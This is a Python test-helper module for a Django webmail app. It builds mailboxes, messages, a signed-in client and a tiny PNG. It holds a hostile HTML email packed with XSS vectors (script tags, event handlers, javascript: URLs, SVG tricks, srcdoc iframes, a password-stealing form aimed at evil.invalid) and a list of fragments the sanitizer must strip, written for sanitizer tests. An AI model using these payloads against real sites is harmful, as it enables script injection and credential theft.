"""What the webmail tests share: a lab of two mailboxes, messages written into Maildirs, hostile HTML."""

from __future__ import annotations

import struct
import zlib
from email.message import EmailMessage
from email.utils import formatdate, make_msgid

from django.test import Client
from django.urls import reverse

from servers import mailstore
from servers.models import Mailbox
from tests.factories import PASSWORD, MailboxOwners, make_mailbox_owners, make_server
from tests.panel_helpers import clear_login_throttle

# Every vector sets `pwned` (on the frame's window, or on the top page if it could reach it) or
# fetches from evil.invalid; the tests prove neither happens.
HOSTILE_HTML = """<!doctype html><html><head>
<base href="http://evil.invalid/">
<meta http-equiv="refresh" content="0;url=http://evil.invalid/refreshed">
<style>@import url("http://evil.invalid/imported.css"); body { background: url(http://evil.invalid/bg.png) }</style>
<script>window.pwned = "script"; try { top.pwned = "script" } catch (e) {}</script>
</head>
<body onload="window.pwned = 'onload'">
<p id="visible">Hostile but harmless</p>
<img src="x" onerror="window.pwned = 'onerror'; top.pwned = 'onerror'">
<a id="js-link" href="javascript:top.pwned = 'href'">click me</a>
<a id="vb-link" href="vbscript:msgbox(1)">old</a>
<svg width="10" height="10">
<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>
<image href='1' onerror='top.pwned=1'/></svg>#x"/>
<animate attributeName="href" to="javascript:top.pwned = 'animate'"/>
<set attributeName="onmouseover" to="top.pwned = 'set'"/>
<a><text>svg link</text></a></svg>
<form action="http://evil.invalid/steal" method="post"><input name="password"><button id="steal">Go</button></form>
<iframe srcdoc="<script>parent.pwned = 'srcdoc'; top.pwned = 'srcdoc'</script>"></iframe>
<iframe src="javascript:top.pwned = 'iframe'"></iframe>
<object data="http://evil.invalid/x.swf"></object><embed src="http://evil.invalid/x.swf">
<div style="background-image: url(http://evil.invalid/track.png); color: red" id="styled">styled</div>
<details open ontoggle="top.pwned = 'ontoggle'"><summary>more</summary></details>
<math><maction actiontype="statusline" xlink:href="javascript:top.pwned = 'math'">m</maction></math>
<img src="http://evil.invalid/track.png" alt="tracker">
</body></html>"""

HOSTILE_FRAGMENTS = (
    "<script",
    "onerror",
    "onload",
    "ontoggle",
    "javascript:",
    "vbscript:",
    "<svg",
    "<use",
    "<animate",
    "<set",
    "<base",
    "<meta",
    "<form",
    "<input",
    "srcdoc",
    "<iframe",
    "@import",
    "evil.invalid",
    "<style",
    "<object",
    "<embed",
    "<math",
)


# The webmail tests' lab: a server with the cast's mailbox owners, helena and bob.
Lab = MailboxOwners


def make_lab(*, start: bool = False, domain: str = "webmail.test") -> Lab:
    return make_mailbox_owners(make_server(domain=domain, start=start))


def text_message(
    *,
    sender: str = "Carol <carol@outside.test>",
    to: str = "helena@webmail.test",
    subject: str = "Hello",
    body: str = "Hi there.\n",
) -> EmailMessage:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = sender, to, subject
    message["Date"] = formatdate()
    message["Message-ID"] = make_msgid(domain="outside.test")
    message.set_content(body)
    return message


def html_message(
    html: str, *, subject: str = "Newsletter", text: str | None = "Plain version", **kwargs
) -> EmailMessage:
    message = text_message(subject=subject, body=text or "", **kwargs)
    if text is None:
        message.set_content(html, subtype="html")
    else:
        message.add_alternative(html, subtype="html")
    return message


def store(mailbox: Mailbox, message: EmailMessage | bytes) -> str:
    """Put a message into the mailbox's Maildir as the SMTP server would; return its unique name."""
    raw = message if isinstance(message, bytes) else message.as_bytes()
    return mailstore.deliver(mailbox.maildir, [raw])


def signed_in_client(mailbox: Mailbox, password: str = PASSWORD, **client_options) -> Client:
    clear_login_throttle()
    client = Client(**client_options)
    response = client.post(reverse("webmail:sign_in"), {"address": mailbox.address, "password": password})
    assert response.status_code == 302, response.content[:500]
    return client


def _png_1x1() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)  # 1x1, 8-bit RGBA
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 5)) + chunk(b"IEND", b"")
    )


# The smallest useful PNG: one transparent pixel.
PNG_1X1 = _png_1x1()
